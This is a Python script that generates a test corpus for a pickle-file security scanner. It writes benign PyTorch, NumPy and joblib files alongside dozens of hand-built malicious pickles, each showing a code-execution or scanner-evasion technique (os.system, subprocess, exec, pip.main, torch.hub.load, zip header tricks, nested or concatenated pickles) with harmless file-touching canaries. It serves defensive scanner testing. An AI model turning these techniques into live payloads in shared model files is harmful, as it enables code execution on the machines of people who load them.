"""Deterministic pickle corpus for hfcheck's pickle scanner (and for comparing scanners).

    python benchmarks/pickle_corpus.py OUTDIR

writes
  OUTDIR/benign/...     real torch.save / numpy / joblib outputs (zip and legacy format)
  OUTDIR/review/...     legitimate files that reference non-allowlisted classes (whole
                        nn.Module pickles, user dataclasses, named tuples): never
                        "dangerous", but not clean either
  OUTDIR/malicious/...  one sample per known technique; payloads are harmless canaries
                        that would create OUTDIR/CANARY-<name> if ever loaded
  OUTDIR/manifest.json  [{path, verdict: benign|review|malicious, technique}]

Malicious samples are written opcode by opcode (bytes), never by pickling dangerous
objects. Needs torch and numpy (joblib optional); runs in a few seconds, output < 5 MB.
"""

from __future__ import annotations

import collections
import dataclasses
import io
import json
import pickle
import shutil
import struct
import sys
import zipfile
from pathlib import Path

# --------------------------------------------------------------------------- opcode emitter


def _u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE for protocol >= 2 streams."""
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def _bs(b: bytes) -> bytes:
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _p(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def _call(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args) as GLOBAL + MARK args TUPLE + REDUCE (args already encoded)."""
    return _g(module, name) + b"(" + b"".join(args) + b"tR"


def _touch(canary: Path) -> str:
    return "touch %s" % canary


def _pyfile(canary: Path) -> str:
    return "open(%r, 'w').close()" % str(canary)


# --------------------------------------------------------------------------- zip helpers


def _zip(path: Path, members: list[tuple[str, bytes]], compress=zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(path, "w", compression=compress) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = compress
            zf.writestr(info, data)


def _torch_zip_with(path: Path, data_pkl: bytes, extra: list[tuple[str, bytes]] = ()) -> None:
    """A torch-zip-shaped archive (archive/data.pkl, byteorder, version, data/0)."""
    members = [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"), ("archive/data/0", b"\x00" * 64)]
    members += list(extra)
    members += [("archive/version", b"3\n"), ("archive/.data/serialization_id", b"1234567890")]
    _zip(path, members)


def _patch_local_name(path: Path, old: bytes, new: bytes) -> None:
    """Change a member's name in its local header only (same length): the central
    directory keeps the real name (picklescan CVE-2025-1944 style)."""
    data = bytearray(path.read_bytes())
    i = data.find(b"PK\x03\x04")
    while i >= 0:
        nlen = int.from_bytes(data[i + 26 : i + 28], "little")
        if data[i + 30 : i + 30 + nlen] == old:
            data[i + 30 : i + 30 + nlen] = new
            break
        i = data.find(b"PK\x03\x04", i + 4)
    path.write_bytes(bytes(data))


def _set_flag_bits(path: Path, name: bytes, bits: int) -> None:
    """OR general-purpose flag bits into both headers of one member (CVE-2025-1945 style)."""
    data = bytearray(path.read_bytes())
    for sig, flag_at, name_at, nlen_at in ((b"PK\x03\x04", 6, 30, 26), (b"PK\x01\x02", 8, 46, 28)):
        i = data.find(sig)
        while i >= 0:
            nlen = int.from_bytes(data[i + nlen_at : i + nlen_at + 2], "little")
            if data[i + name_at : i + name_at + nlen] == name:
                flags = int.from_bytes(data[i + flag_at : i + flag_at + 2], "little") | bits
                data[i + flag_at : i + flag_at + 2] = flags.to_bytes(2, "little")
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))


def _npy_object(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + pickle_bytes


# --------------------------------------------------------------------------- malicious


def malicious(out: Path) -> list[dict]:
    root = out / "malicious"
    root.mkdir(parents=True, exist_ok=True)
    items: list[dict] = []

    def canary(name: str) -> Path:
        return (out / ("CANARY-" + name)).resolve()

    def add(name: str, data: bytes, technique: str, filename: str | None = None) -> Path:
        path = root / (filename or name + ".pkl")
        path.write_bytes(data)
        items.append({"path": str(path.relative_to(out)), "verdict": "malicious", "technique": technique})
        return path

    def os_system(name: str, proto: int = 2) -> bytes:
        return _p(_call("os", "system", _u(_touch(canary(name)))), proto)

    add("os_system", os_system("os_system"), "os.system via GLOBAL+REDUCE")
    add("posix_system", _p(_call("posix", "system", _u(_touch(canary("posix_system"))))), "posix.system (os alias)")
    add("nt_system", _p(_call("nt", "system", _u(_touch(canary("nt_system"))))), "nt.system (os alias on Windows)")
    add("builtins_exec", _p(_call("builtins", "exec", _u(_pyfile(canary("builtins_exec"))))), "builtins.exec")
    add(
        "reduce_eval_py2",
        _p(_call("__builtin__", "eval", _u(_pyfile(canary("reduce_eval_py2"))))),
        "__reduce__ returning eval, py2 __builtin__ alias",
    )
    add(
        "builtins_compile_exec",
        _p(
            _g("builtins", "exec")
            + b"("
            + _call("builtins", "compile", _u(_pyfile(canary("builtins_compile_exec"))), _u("<x>"), _u("exec"))
            + b"tR"
        ),
        "builtins.compile + exec",
    )
    add(
        "subprocess_popen",
        _p(_g("subprocess", "Popen") + b"((" + _u("touch") + _u(str(canary("subprocess_popen"))) + b"ltR"),
        "subprocess.Popen with an argv list",
    )
    add(
        "subprocess_check_output",
        _p(_g("subprocess", "check_output") + b"((" + _u("touch") + _u(str(canary("subprocess_check_output"))) + b"ltR"),
        "subprocess.check_output",
    )
    add(
        "runpy_run_code",
        _p(_g("runpy", "_run_code") + b"(" + _u(_pyfile(canary("runpy_run_code"))) + b"}tR"),
        "runpy._run_code (exec of a string)",
    )
    add(
        "pip_main",
        _p(_g("pip", "main") + b"((" + _u("install") + _u("--target") + _u(str(canary("pip_main"))) + _u("nonexistent-pkg") + b"ltR"),
        "pip.main (missing from early denylists, CVE-2025-1716)",
    )
    add(
        "pip_internal_main",
        _p(_g("pip._internal", "main") + b"((" + _u("download") + _u(str(canary("pip_internal_main"))) + b"ltR"),
        "pip._internal.main",
    )
    add("webbrowser_open", _p(_call("webbrowser", "open", _u("file://" + str(canary("webbrowser_open"))))), "webbrowser.open")
    # getattr(importlib.import_module("os"), "system")(cmd)
    add(
        "importlib_getattr",
        _p(
            _g("builtins", "getattr")
            + b"("
            + _call("importlib", "import_module", _u("os"))
            + _u("system")
            + b"tR("
            + _u(_touch(canary("importlib_getattr")))
            + b"tR"
        ),
        "importlib.import_module + builtins.getattr chain, calling a computed callable",
    )
    add(
        "dunder_import_getattr",
        _p(
            _g("builtins", "getattr")
            + b"("
            + _call("builtins", "__import__", _u("os"))
            + _u("system")
            + b"tR("
            + _u(_touch(canary("dunder_import_getattr")))
            + b"tR"
        ),
        "builtins.__import__ + getattr",
    )
    # STACK_GLOBAL whose strings come from the memo, with a decoy in between
    add(
        "stack_global_memo",
        _p(
            _u("os")
            + b"\x94"
            + _u("system")
            + b"\x94"
            + b"00"
            + _u("decoy")
            + b"0"
            + b"h\x00h\x01\x93"
            + _u(_touch(canary("stack_global_memo")))
            + b"\x85R",
            4,
        ),
        "STACK_GLOBAL with module/name fetched from the memo (BINGET)",
    )
    add(
        "stack_global_long_binget",
        _p(
            _u("posix")
            + b"r\x00\x00\x01\x00"
            + _u("system")
            + b"r\x01\x00\x01\x00"
            + b"00"
            + b"j\x00\x00\x01\x00j\x01\x00\x01\x00\x93"
            + _u(_touch(canary("stack_global_long_binget")))
            + b"\x85R",
            4,
        ),
        "STACK_GLOBAL via LONG_BINPUT/LONG_BINGET with large memo indices",
    )
    # module name computed at load time: codecs.decode("bf", "rot13") == "os"
    add(
        "stack_global_computed",
        _p(
            _call("_codecs", "decode", _u("bf"), _u("rot13"))
            + _u("system")
            + b"\x93"
            + _u(_touch(canary("stack_global_computed")))
            + b"\x85R",
            4,
        ),
        "STACK_GLOBAL with an operand built by a call (unresolvable)",
    )
    add("inst_opcode", b"(V" + _touch(canary("inst_opcode")).encode() + b"\nios\nsystem\n.", "INST opcode (protocol 0)")
    add("obj_opcode", b"(cos\nsystem\nV" + _touch(canary("obj_opcode")).encode() + b"\no.", "OBJ opcode (protocol 1)")
    add("proto0_text", b"cos\nsystem\n(S'" + _touch(canary("proto0_text")).encode() + b"'\ntR.", "protocol 0 text pickle, no PROTO opcode")
    add(
        "newobj_popen",
        _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_popen"))) + b"l" + b"t\x81"),
        "NEWOBJ on subprocess.Popen",
    )
    add(
        "newobj_ex_popen",
        _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_ex_popen"))) + b"l" + b"t}\x92", 4),
        "NEWOBJ_EX on subprocess.Popen",
    )
    benign_first = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
    add("concat_second", benign_first + os_system("concat_second"), "payload in the 2nd of concatenated pickles")
    add("concat_third", benign_first + benign_first + os_system("concat_third", 4), "payload in the 3rd of concatenated pickles")
    add(
        "torch_hub_load",
        _p(_call("torch.hub", "load", _u("attacker/" + canary("torch_hub_load").name), _u("model"))),
        "torch.hub.load (remote code)",
    )
    add("torch_load_recursion", _p(_call("torch", "load", _u(str(canary("torch_load_recursion"))))), "torch.load recursion on another file")
    add("torch_jit_load", _p(_call("torch.jit", "load", _u(str(canary("torch_jit_load"))))), "torch.jit.load")
    add(
        "load_from_bytes_nested",
        _p(_g("torch.storage", "_load_from_bytes") + b"(" + _bs(os_system("load_from_bytes_nested")) + b"tR"),
        "torch.storage._load_from_bytes whose bytes are a malicious pickle (nested torch.load)",
    )
    add(
        "functools_partial",
        _p(_g("functools", "partial") + b"(" + _g("os", "system") + _u(_touch(canary("functools_partial"))) + b"tR)R"),
        "functools.partial wrapping os.system, then called",
    )
    add(
        "operator_attrgetter",
        _p(
            _g("operator", "attrgetter")
            + b"("
            + _u("system")
            + b"tR("
            + _call("importlib", "import_module", _u("os"))
            + b"tR("
            + _u(_touch(canary("operator_attrgetter")))
            + b"tR"
        ),
        "operator.attrgetter getattr chain",
    )
    add(
        "operator_methodcaller",
        _p(
            _g("_operator", "methodcaller")
            + b"("
            + _u("system")
            + _u(_touch(canary("operator_methodcaller")))
            + b"tR("
            + _call("importlib", "import_module", _u("os"))
            + b"tR"
        ),
        "_operator.methodcaller",
    )
    add(
        "numpy_runstring",
        _p(_call("numpy.testing._private.utils", "runstring", _u(_pyfile(canary("numpy_runstring"))), b"}")),
        "numpy.testing runstring (exec), not in typical denylists",
    )
    add("timeit_exec", _p(_call("timeit", "timeit", _u(_pyfile(canary("timeit_exec"))), b"K\x01")), "timeit.timeit exec's its statement")
    add("cprofile_run", _p(_call("cProfile", "run", _u(_pyfile(canary("cprofile_run"))))), "cProfile.run exec's its argument")
    add("pickle_loads", _p(_g("pickle", "loads") + b"(" + _bs(os_system("pickle_loads")) + b"tR"), "pickle.loads recursion")
    add(
        "call_then_break",
        _p(_call("os", "system", _u(_touch(canary("call_then_break")))) + b"00"),
        "payload runs, then the stream breaks (stack underflow)",
    )
    add("code_interact", _p(_g("code", "InteractiveInterpreter") + b")R" + b"0" + _u("x")), "code.InteractiveInterpreter")
    add("ctypes_cdll", _p(_call("ctypes", "CDLL", _u(str(canary("ctypes_cdll"))))), "ctypes.CDLL (load a native library)")
    add("shutil_copy", _p(_call("shutil", "copyfile", _u("/etc/hostname"), _u(str(canary("shutil_copy"))))), "shutil file write")
    add("socket_connect", _p(_call("socket", "create_connection", b"(" + _u("127.0.0.1") + b"K\x01t")), "socket.create_connection")
    add(
        "urllib_urlopen",
        _p(_call("urllib.request", "urlopen", _u("http://127.0.0.1:1/" + canary("urllib_urlopen").name))),
        "urllib.request.urlopen",
    )
    add(
        "proto4_dotted_name",
        _p(_u("torch") + _u("serialization.os.system") + b"\x93" + _u(_touch(canary("proto4_dotted_name"))) + b"\x85R", 4),
        "protocol 4 dotted name reaching os.system through a module attribute",
    )
    add(
        "dunder_globals",
        _p(_u("torch._utils") + _u("_rebuild_tensor_v2.__globals__") + b"\x93" + b"0" + os_system("dunder_globals")[2:-1], 4),
        "dotted name through __globals__",
    )
    add(
        "build_monkeypatch",
        _p(_g("torch", "_utils") + b"N}" + _u("_rebuild_tensor_v2") + _g("os", "system") + b"s\x86b" + b"0" + _u("ok")),
        "BUILD on an imported module, replacing a rebuild helper with os.system",
    )
    add("ext_opcode", _p(b"\x82\x01(" + _u(_touch(canary("ext_opcode"))) + b"tR"), "EXT1: global from the copyreg extension registry")
    add(
        "getattr_chain_builtins",
        _p(
            _g("builtins", "getattr")
            + b"("
            + _g("builtins", "__builtins__")
            + _u("eval")
            + b"tR("
            + _u(_pyfile(canary("getattr_chain_builtins")))
            + b"tR"
        ),
        "getattr on builtins module to reach eval",
    )
    add("sys_modules", _p(_g("sys", "modules") + b"0" + _u("x")), "sys.modules access")
    add(
        "asyncio_subprocess",
        _p(_call("asyncio.subprocess", "create_subprocess_shell", _u(_touch(canary("asyncio_subprocess"))))),
        "asyncio subprocess",
    )
    add("multiprocessing_process", _p(_call("multiprocessing", "Process") + b"0" + _u("x")), "multiprocessing")
    add("pty_spawn", _p(_call("pty", "spawn", _u("/bin/true"))), "pty.spawn")
    add("marshal_loads", _p(_call("marshal", "loads", _bs(b"\xe3"))), "marshal.loads of code objects")
    add("types_functiontype", _p(_call("types", "FunctionType", b"N", b"}")), "types.FunctionType construction")
    add("tempfile_write", _p(_call("tempfile", "NamedTemporaryFile") + b"0" + _u("x")), "tempfile")
    add(
        "setattr_builtin",
        _p(_call("builtins", "setattr", _g("torch", "_utils"), _u("_rebuild_tensor_v2"), _g("os", "system"))),
        "builtins.setattr monkey-patch",
    )

    # containers ---------------------------------------------------------------
    p = root / "torch_zip_other_member.pt"
    _torch_zip_with(p, _p(b"}", 2), [("archive/extra.pkl", os_system("torch_zip_other_member"))])
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "payload in a non-data.pkl member of a torch zip"})
    p = root / "torch_zip_unnamed_member.pt"
    _torch_zip_with(p, _p(b"}", 2), [("archive/code/__torch__/model.bin", os_system("torch_zip_unnamed_member"))])
    items.append(
        {"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "pickle content in a zip member without .pkl extension"}
    )
    p = root / "torch_zip_header_mismatch.pt"
    _torch_zip_with(p, os_system("torch_zip_header_mismatch"))
    _patch_local_name(p, b"archive/data.pkl", b"archive/data.pkX")
    items.append(
        {
            "path": str(p.relative_to(out)),
            "verdict": "malicious",
            "technique": "torch zip whose local header name differs from the central directory",
        }
    )
    p = root / "torch_zip_flag_bits.pt"
    _torch_zip_with(p, os_system("torch_zip_flag_bits"))
    _set_flag_bits(p, b"archive/data.pkl", 0x1)
    items.append(
        {"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip with the encryption flag bit set on data.pkl"}
    )
    p = root / "torch_zip_deflated.pt"
    with zipfile.ZipFile(p, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", os_system("torch_zip_deflated"))
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "deflate-compressed data.pkl"})
    p = root / "weights.txt"
    _torch_zip_with(p, os_system("zip_txt_extension"))
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip under a non-standard extension (.txt)"})
    add("safetensors_named", os_system("safetensors_named"), "raw pickle named model.safetensors", filename="model.safetensors")
    # legacy: magic, protocol, sys_info, object, keys
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto_version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    add(
        "legacy_payload_in_object",
        magic + proto_version + sys_info + os_system("legacy_payload_in_object") + keys,
        "legacy torch format, payload in the object pickle",
        filename="legacy_object.bin",
    )
    add(
        "legacy_payload_in_keys",
        magic + proto_version + sys_info + pickle.dumps({}, protocol=2) + os_system("legacy_payload_in_keys"),
        "legacy torch format, payload in the storage-keys pickle (5th)",
        filename="legacy_keys.bin",
    )
    add(
        "legacy_payload_in_sysinfo",
        magic + proto_version + os_system("legacy_payload_in_sysinfo") + pickle.dumps({}, protocol=2) + keys,
        "legacy torch format, payload in sys_info",
        filename="legacy_sysinfo.bin",
    )
    add("npy_object", _npy_object(os_system("npy_object")), "numpy .npy with object dtype", filename="array.npy")
    p = root / "arrays.npz"
    _zip(p, [("clean.npy", _npy_object(pickle.dumps([1, 2], protocol=2))), ("evil.npy", _npy_object(os_system("npz_member")))])
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "npz member with object dtype"})
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("archive/data.pkl", os_system("zip_in_zip"))
    p = root / "nested.zip"
    _zip(p, [("readme.txt", b"hello"), ("inner/model.pt", inner.getvalue())])
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip inside a zip"})
    import gzip

    add(
        "gzip_pickle",
        gzip.compress(os_system("gzip_pickle"), mtime=0),
        "gzip-compressed pickle (joblib.load decompresses)",
        filename="model.joblib",
    )
    p = root / "duplicate_member.pt"
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        _zip(p, [("archive/data.pkl", _p(b"}", 2)), ("archive/data.pkl", os_system("duplicate_member"))])
    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "duplicate member name in a zip"})
    try:
        import joblib  # noqa: F401

        items.append(_joblib_payload(root, out, canary("joblib_after_array")))
    except ImportError:
        pass
    return items


class _Marker:
    """Pickles as builtins.print(cmd); the bytes are then rewritten to os.system (never run)."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (print, (self.cmd,))


def _joblib_payload(root: Path, out: Path, canary: Path) -> dict:
    import joblib
    import numpy as np

    p = root / "joblib_after_array.joblib"
    joblib.dump([np.arange(5000, dtype=np.float64), _Marker(_touch(canary))], p, protocol=2)
    data = p.read_bytes()
    assert b"c__builtin__\nprint\n" in data
    p.write_bytes(data.replace(b"c__builtin__\nprint\n", b"cos\nsystem\n"))
    return {"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "joblib file: payload after an inline numpy array"}


# --------------------------------------------------------------------------- benign


@dataclasses.dataclass
class TrainingArgsLike:
    output_dir: str = "out"
    learning_rate: float = 5e-5
    num_train_epochs: int = 3


Pair = collections.namedtuple("Pair", "weight bias")


def benign(out: Path) -> list[dict]:
    import numpy as np
    import torch
    from torch import nn

    torch.manual_seed(0)
    items: list[dict] = []

    def save(obj, rel: str, technique: str, verdict: str = "benign") -> None:
        for legacy in (False, True):
            path = out / verdict / ((rel + ".legacy.bin") if legacy else (rel + ".pt"))
            path.parent.mkdir(parents=True, exist_ok=True)
            torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
            items.append(
                {
                    "path": str(path.relative_to(out)),
                    "verdict": verdict,
                    "technique": technique + (" (legacy format)" if legacy else " (zip format)"),
                }
            )

    modules = {
        "linear": nn.Linear(8, 4),
        "conv1d": nn.Conv1d(2, 3, 3),
        "conv2d": nn.Conv2d(2, 3, 3),
        "conv3d": nn.Conv3d(1, 2, 2),
        "lstm": nn.LSTM(4, 4, num_layers=2),
        "gru": nn.GRU(4, 4),
        "embedding": nn.Embedding(16, 4),
        "layernorm": nn.LayerNorm(8),
        "batchnorm": nn.BatchNorm1d(4),
        "transformer": nn.Transformer(d_model=16, nhead=2, num_encoder_layers=1, num_decoder_layers=1, dim_feedforward=32),
        "mha": nn.MultiheadAttention(8, 2),
    }
    for name, m in modules.items():
        save(m.state_dict(), "state_dict/" + name, "state_dict of nn." + type(m).__name__)
    dtypes = [
        torch.float16,
        torch.bfloat16,
        torch.float64,
        torch.int8,
        torch.uint8,
        torch.int16,
        torch.int32,
        torch.int64,
        torch.bool,
        torch.complex64,
        torch.complex128,
    ]
    dtypes += [getattr(torch, d) for d in ("float8_e4m3fn", "float8_e5m2", "uint16", "uint32", "uint64") if hasattr(torch, d)]
    save({str(d): torch.ones(3).to(d) for d in dtypes}, "dtypes/all", "tensors of every dtype")
    save(
        {"dtype": torch.float16, "size": torch.Size([2, 3]), "device": torch.device("cpu")},
        "misc/torch_values",
        "torch.dtype, torch.Size, torch.device values",
    )
    q = torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.quint8)
    qc = torch.quantize_per_channel(torch.rand(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8)
    save({"q": q, "qc": qc}, "dtypes/quantized", "quantized tensors")
    sp = torch.eye(3).to_sparse()
    save({"coo": sp, "csr": torch.eye(3).to_sparse_csr()}, "misc/sparse", "sparse COO/CSR tensors")
    save({"nested": ((torch.ones(2), [torch.zeros(1)]), {"k": (torch.ones(1),)})}, "misc/nested", "nested tuples/lists/dicts of tensors")
    save(
        {"p": nn.Parameter(torch.ones(2)), "p_nograd": nn.Parameter(torch.ones(2), requires_grad=False)},
        "misc/parameters",
        "nn.Parameter values",
    )
    save(
        {"view": torch.arange(10.0)[2:5], "t": torch.ones(2, 3).t(), "cl": torch.ones(1, 2, 3, 3).to(memory_format=torch.channels_last)},
        "misc/views",
        "views, transposes, channels_last",
    )
    lin = nn.Linear(4, 2)
    opt = torch.optim.Adam(lin.parameters(), lr=1e-3)
    lin(torch.ones(1, 4)).sum().backward()
    opt.step()
    save(opt.state_dict(), "optimizer/adam", "Adam optimizer state_dict")
    sgd = torch.optim.SGD(lin.parameters(), lr=0.1, momentum=0.9)
    sgd.step()
    save(sgd.state_dict(), "optimizer/sgd", "SGD optimizer state_dict")
    save(
        {
            "model": modules["linear"].state_dict(),
            "optimizer": opt.state_dict(),
            "epoch": 3,
            "step": 1000,
            "best": 0.5,
            "args": {"lr": 1e-3, "names": ["a", "b"]},
        },
        "checkpoint/train",
        "training checkpoint dict",
    )
    save(
        {
            "np": np.arange(6, dtype=np.float32).reshape(2, 3),
            "np_scalar": np.float64(1.5),
            "np_int": np.int64(3),
            "np_bool": np.bool_(True),
        },
        "numpy/in_torch",
        "numpy arrays/scalars inside torch.save",
    )
    save({"empty": torch.empty(0), "scalar": torch.tensor(3.0), "big_int": torch.tensor([2**62])}, "misc/edge", "empty and scalar tensors")

    # review: legitimate but references classes outside the allowlist
    save(modules["linear"], "review/whole_linear", "whole nn.Module object", verdict="review")
    save(nn.Sequential(nn.Linear(2, 2), nn.ReLU()), "review/whole_sequential", "whole nn.Sequential object", verdict="review")
    save({"args": TrainingArgsLike()}, "review/training_args", "user dataclass (training_args-like)", verdict="review")
    save({"pair": Pair(torch.ones(1), torch.zeros(1))}, "review/namedtuple", "named tuple of tensors", verdict="review")

    # plain pickle of a tensor: storages go through torch.storage._load_from_bytes (a nested torch.save)
    path = out / "benign/misc/pickled_tensor.pkl"
    path.write_bytes(pickle.dumps({"t": torch.ones(3)}, protocol=4))
    items.append(
        {
            "path": str(path.relative_to(out)),
            "verdict": "benign",
            "technique": "pickle.dumps of a tensor (nested torch.save via _load_from_bytes)",
        }
    )

    # numpy
    nd = out / "benign/numpy"
    nd.mkdir(parents=True, exist_ok=True)
    np.save(nd / "float.npy", np.arange(12, dtype=np.float32).reshape(3, 4))
    np.save(nd / "object.npy", np.array([1, "a", None, (1, 2)], dtype=object), allow_pickle=True)
    np.save(nd / "structured.npy", np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]))
    np.savez(nd / "arrays.npz", a=np.ones(3), b=np.arange(4))
    np.savez_compressed(nd / "compressed.npz", a=np.ones(100), o=np.array([{"k": 1}], dtype=object))
    for name in ("float.npy", "object.npy", "structured.npy", "arrays.npz", "compressed.npz"):
        items.append({"path": "benign/numpy/" + name, "verdict": "benign", "technique": "numpy " + name})
    for proto in range(6):
        path = nd / ("pickled_array_p%d.pkl" % proto)
        path.write_bytes(
            pickle.dumps({"a": np.arange(4.0), "s": np.float32(2.0), "o": np.array([None, "x"], dtype=object)}, protocol=proto)
        )
        items.append({"path": str(path.relative_to(out)), "verdict": "benign", "technique": "pickled numpy arrays, protocol %d" % proto})

    # plain python data, every protocol
    pd = out / "benign/python"
    pd.mkdir(parents=True, exist_ok=True)
    value = {
        "ints": [0, 1, -1, 2**70],
        "floats": [0.5, float("inf")],
        "s": "héllo",
        "b": b"\x00\xff",
        "t": (1, (2,)),
        "set": {1, 2},
        "fs": frozenset([3]),
        "od": collections.OrderedDict(a=1),
        "dd": None,
        "c": 1 + 2j,
        "ba": bytearray(b"x"),
        "sl": slice(1, 2),
        "rng": range(3),
    }
    for proto in range(6):
        path = pd / ("data_p%d.pkl" % proto)
        path.write_bytes(pickle.dumps(value, protocol=proto))
        items.append({"path": str(path.relative_to(out)), "verdict": "benign", "technique": "python builtins data, protocol %d" % proto})

    # joblib
    try:
        import joblib

        jd = out / "benign/joblib"
        jd.mkdir(parents=True, exist_ok=True)
        obj = {
            "w": np.arange(1000, dtype=np.float64),
            "i": np.arange(7, dtype=np.int32),
            "u": np.array(["ab", "c"]),
            "rec": np.zeros(2, dtype=[("x", "<i2"), ("y", "<f4")]),
            "o": np.array(["a", None], dtype=object),
            "after": [1, 2, 3],
        }
        joblib.dump(obj, jd / "model.joblib")
        joblib.dump(obj, jd / "model_p2.joblib", protocol=2)
        joblib.dump(obj, jd / "model_zlib.joblib", compress=3)
        joblib.dump(obj, jd / "model_gz.joblib", compress=("gzip", 3))
        joblib.dump(obj, jd / "model_xz.joblib", compress=("xz", 3))
        joblib.dump(obj, jd / "model_bz2.joblib", compress=("bz2", 3))
        for name in ("model.joblib", "model_p2.joblib", "model_zlib.joblib", "model_gz.joblib", "model_xz.joblib", "model_bz2.joblib"):
            items.append({"path": "benign/joblib/" + name, "verdict": "benign", "technique": "joblib.dump " + name})
    except ImportError:
        pass
    return items


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__, file=sys.stderr)
        return 2
    out = Path(argv[0])
    for sub in ("benign", "malicious", "review"):
        shutil.rmtree(out / sub, ignore_errors=True)
    out.mkdir(parents=True, exist_ok=True)
    items = benign(out) + malicious(out)
    items.sort(key=lambda i: i["path"])
    (out / "manifest.json").write_text(json.dumps(items, indent=1) + "\n")
    counts = collections.Counter(i["verdict"] for i in items)
    print("wrote %s: %s" % (out, dict(sorted(counts.items()))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
